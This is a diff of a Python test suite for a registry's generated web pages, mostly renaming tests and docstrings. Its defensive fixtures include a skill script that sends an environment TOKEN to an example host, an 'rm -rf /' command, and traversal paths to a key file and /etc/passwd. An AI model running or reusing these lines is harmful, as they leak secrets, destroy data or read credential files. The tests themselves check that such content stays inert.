@@ -1,4 +1,4 @@
-"""The pages of a registry: what they tell, that nothing of a skill is more than text there, and how few change."""
+"""The pages of a registry: their content, with text of skills as text only, and few changes per release."""
 
 from __future__ import annotations
 
@@ -133,7 +133,7 @@ def every(hub):
 
 
 def check(hub):
-    """Hold every page against what all pages are: known elements, own links that lead somewhere, one script."""
+    """Check that every page has only known elements, existing own links and at most one script."""
     site = Path(hub.dir.site)
     for path, text in every(hub).items():
         page = Page(text)
@@ -149,7 +149,7 @@ def check(hub):
                 assert (site / path).parent.joinpath(target).resolve().is_file(), (path, link)
 
 
-def test_every_kind_of_page_is_there_and_leads_to_the_others(hub):
+def test_every_kind_of_page_exists_and_is_linked(hub):
     script = "import os, urllib.request\nurllib.request.urlopen('https://api.example.com/' + os.environ['TOKEN'])\n"
     put(hub, files={"scripts/run.py": script})
     put(hub, version="1.1.0", body="# Hello\n\nMore.\n", files={"scripts/run.py": script + "# more\n"})
@@ -175,7 +175,7 @@ def test_every_kind_of_page_is_there_and_leads_to_the_others(hub):
     assert "TOKEN" in text_of(hub, "-/capability/index.html")
 
 
-def test_a_page_shows_a_skill_whole_where_a_list_shortens_it(hub):
+def test_page_of_a_skill_shows_the_full_description(hub):
     described = "Says hello. " * 40 + "Then it says goodbye."
     put(hub, described=described, files={"scripts/run.sh": 'curl -s "$1"\n'})
     made(hub)
@@ -183,11 +183,11 @@ def test_a_page_shows_a_skill_whole_where_a_list_shortens_it(hub):
     page = Page(text_of(hub, "-/skill/hello.html")).words
     assert described in page and "network:? (unknown hosts)" in page
     assert "network:? (unknown hosts)" in text_of(hub, "-/capability/index.html")
-    # A box with a height of its own would end in the middle of a difference, and look like its end.
+    # A box of limited height would end inside of a difference and look complete.
     assert "max-height" not in text_of(hub, "-/style.css")
 
 
-def test_taken_back_releases_are_marked_with_the_reason_and_nothing_withdrawn_is_shown(hub):
+def test_recalled_releases_have_their_reason_and_withdrawn_content_is_hidden(hub):
     put(hub, body="# Secret words\n")
     put(hub, "other")
     made(hub)
@@ -202,18 +202,18 @@ def test_taken_back_releases_are_marked_with_the_reason_and_nothing_withdrawn_is
     assert "skillhub install" not in text_of(hub, "-/skill/hello.html")
     yank(hub.dir.path, "other@1.0.0", None, signing)
     made(hub)
-    told = re.sub(r"\s+", " ", Page(text_of(hub, "-/changes/index.html")).words)
+    history = re.sub(r"\s+", " ", Page(text_of(hub, "-/changes/index.html")).words)
     for line in (
         "other 1.0.0 offered again",
         "other 1.0.0 yanked: breaks",
         "hello 1.0.0 withdrawn: sends",
         "acme admitted",
     ):
-        assert line in told
+        assert line in history
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
-def test_attack_texts_of_a_skill_are_markup_scripts_links_or_hide_characters(hub, hostile):
+def test_attack_hostile_texts_of_a_skill_are_inert_on_pages(hub, hostile):
     line = hostile.partition("\n")[0]
     name = re.sub(r'[\x00-\x1f<>:"/\\|?*\u202a-\u202e\u200b]', "", line).strip(" .")[:60] or "x"
     files = {f"{name}.txt": f"</pre></details>{hostile}", "evil.svg": hostile, "run.sh": f"rm -rf / # {hostile}\n"}
@@ -245,16 +245,16 @@ def test_attack_texts_of_a_skill_are_markup_scripts_links_or_hide_characters(hub
         ("`a\u200bb`", "<p><code>ab</code></p>\n"),
     ],
 )
-def test_attack_markdown_leads_elsewhere_or_loads_an_image(text, shown):
+def test_attack_links_and_images_of_markdown_are_inert(text, shown):
     assert inert(text) == shown
 
 
 @pytest.mark.parametrize("text", ["[" * 30_000, "*a " * 9_000, ">" * 30_000, "![" * 15_000, "*_" * 15_000])
-def test_attack_markdown_that_is_made_to_be_slow(text):
-    assert len(inert(text)) >= 1  # a quadratic reader would not come back
+def test_attack_slow_markdown_is_rendered_in_linear_time(text):
+    assert len(inert(text)) >= 1  # a quadratic renderer would take minutes
 
 
-def test_attack_rows_of_tables_leave_out_a_million_cells(hub):
+def test_attack_huge_tables_are_not_rendered(hub):
     table = f"{'|a' * 100}|\n{'|-' * 100}|\n" + "a\n" * 600
     for text in (table, "> " + table.replace("\n", "\n> "), f"1. {table}", table.replace("|-", "|:-:")):
         assert is_long(f"{text}\n" * 5)
@@ -264,7 +264,7 @@ def test_attack_rows_of_tables_leave_out_a_million_cells(hub):
     assert "<td>a</td>" not in text_of(hub, "-/skill/hello.html")
 
 
-def test_a_huge_text_is_cut_and_said_to_be(hub):
+def test_huge_text_is_left_out_with_a_note(hub):
     put(hub, body="# Long\n\n" + "word " * 20_000, files={"big.txt": "x" * 100_000, "bin": b"\0" * 10})
     made(hub)
     page = text_of(hub, "-/skill/hello.html")
@@ -274,7 +274,7 @@ def test_a_huge_text_is_cut_and_said_to_be(hub):
     check(hub)
 
 
-def test_a_new_name_changes_one_group_of_a_long_list():
+def test_new_name_changes_one_group_of_a_long_list():
     names = sorted(f"{word}-{number}" for word in ("deploy", "review", "r") for number in range(400))
     before = dict(buckets(names))
     assert [name for group in before.values() for name in group] == names
@@ -286,7 +286,7 @@ def test_a_new_name_changes_one_group_of_a_long_list():
 
 
 def found_by(site, word):
-    """Return what the script of a page finds by a word, and how many files it reads."""
+    """Return the names that the script of a page finds by a word, and the number of files that it reads."""
     starts = json.loads(site["-/search.json"])
     groups = [f"-/search/p-{each}.json" for each in starts if each.startswith(word) or word.startswith(each)]
     rows = [row for path in groups for row in json.loads(site[path])["skills"]]
@@ -297,7 +297,7 @@ def rows_named(names):
     return {name: row_of(Release(name=name, url="", digest=None, description=f"About {name}.")) for name in names}
 
 
-def test_a_search_in_many_skills_reads_a_few_groups_and_a_release_changes_one_for_each_word():
+def test_search_reads_few_groups_and_a_release_changes_few():
     verbs, nouns = ("deploy", "review", "con", "a", "x" * 50), ("logs", "charts", "aux", "deploy")
     names = [f"{verb}-{noun}-{number}" for verb in verbs for noun in nouns for number in range(130)]
     site = dict(search_groups(rows_named(names)))
@@ -311,13 +311,13 @@ def test_a_search_in_many_skills_reads_a_few_groups_and_a_release_changes_one_fo
     assert found_by(site, "zebra") == (set(), 0)
     after = dict(search_groups(rows_named([*names, "review-logs-129-x"])))
     assert len([path for path, data in after.items() if site.get(path) != data]) <= 5
-    # What a file is called is made of names of skills alone, and no name is one that Windows keeps for itself.
+    # Names of files consist of names of skills, and none is reserved by Windows.
     assert all(re.fullmatch(r"-/search(/p-[a-z0-9-]{1,200})?\.json", path) for path in site)
     withdrawn = Release(name="a-b", url="", digest=None, description="bad", withdrawn="steals")
     assert "bad" not in str(dict(search_groups({"a-b": row_of(withdrawn)})))
 
 
-def test_a_new_release_changes_few_pages(hub):
+def test_release_changes_few_pages(hub):
     for name in ("hello", "other", "third"):
         put(hub, name)
     made(hub)
@@ -328,7 +328,7 @@ def test_a_new_release_changes_few_pages(hub):
     assert not [path for path in written if "other" in path or "third" in path or path == "-/skill/hello/1.0.0.html"]
 
 
-def test_attack_a_damaged_record_pushes_a_key(hub, tmp_path):
+def test_attack_a_damaged_record_does_not_push_a_key(hub, tmp_path):
     put(hub)
     made(hub)
     Path(record_path(hub.dir.path, "bad")).write_text('{"x": ["", ["../keys/online/timestamp.pem", "/etc/passwd"]]}')
@@ -349,7 +349,7 @@ def test_attack_a_damaged_record_pushes_a_key(hub, tmp_path):
     assert (target / "hello/1.root.json").read_bytes() == b"b"
 
 
-def test_the_feed_names_each_change_once_and_for_good(hub):
+def test_feed_has_a_stable_id_for_each_change(hub):
     put(hub)
     made(hub, url="https://skills.example")
     atom = "{http://www.w3.org/2005/Atom}"
@@ -365,7 +365,7 @@ def test_the_feed_names_each_change_once_and_for_good(hub):
     assert "<loc>https://skills.example/-/skill/other.html</loc>" in text_of(hub, "sitemap.xml")
 
 
-def test_without_the_url_of_the_site_the_sitemap_has_no_link(hub):
+def test_sitemap_without_the_url_of_the_site_has_no_link(hub):
     put(hub)
     made(hub)
     found = ElementTree.fromstring(text_of(hub, "sitemap.xml"))
@@ -373,7 +373,7 @@ def test_without_the_url_of_the_site_the_sitemap_has_no_link(hub):
     assert "needs the URL of the site" in text_of(hub, "sitemap.xml")
 
 
-def test_any_two_of_the_newest_versions_are_compared_without_script(hub):
+def test_newest_versions_are_compared_pairwise_without_script(hub):
     versions = [f"1.{minor}.0" for minor in range(10)]
     for number, version in enumerate(versions):
         put(hub, version=version, files={"notes.txt": f"line {number}\n"})
@@ -384,7 +384,9 @@ def test_any_two_of_the_newest_versions_are_compared_without_script(hub):
     for old, new in combinations(versions, 2):
         path = f"-/skill/hello/{new}_since_{old}.html"
         is_there = {old, new} <= set(newest) and "1.7.0" not in (old, new)
-        is_there = is_there and versions.index(new) - versions.index(old) > 1  # else the page of the new one says it
+        is_there = (
+            is_there and versions.index(new) - versions.index(old) > 1
+        )  # adjacent versions are compared on the page of the newer one
         assert Path(hub.dir.site, path).is_file() is is_there, path
         assert (f'href="../../{path}"' in page) is is_there
     text = text_of(hub, "-/skill/hello/1.9.0_since_1.4.0.html")
@@ -393,7 +395,7 @@ def test_any_two_of_the_newest_versions_are_compared_without_script(hub):
 
 
 @pytest.mark.parametrize("long", ["1.0.0-" + "a" * 58, "1.0.0+" + "b" * 58, "1.0.0-since.1"])
-def test_a_version_of_any_length_is_compared_and_no_link_leads_nowhere(hub, long):
+def test_long_versions_are_compared_without_broken_links(hub, long):
     for version in (long, "1.1.0", "1.2.0-" + "c" * 58):
         put(hub, version=version)
     made(hub)
@@ -401,7 +403,7 @@ def test_a_version_of_any_length_is_compared_and_no_link_leads_nowhere(hub, long
     assert "since " + long in text_of(hub, "-/skill/hello.html")
 
 
-def test_a_long_sitemap_is_in_maps_by_page_of_which_a_release_changes_one():
+def test_long_sitemap_is_split_and_a_release_changes_one_part():
     site = _Site("Skills", "0" * 64, "https://skills.example", "acme", "acme")
     places = {f"-/skill/s{number}.html": "2026-01-01T00:00:00Z" for number in range(2000)}
     before = dict(_sitemap(site, places, 1000))
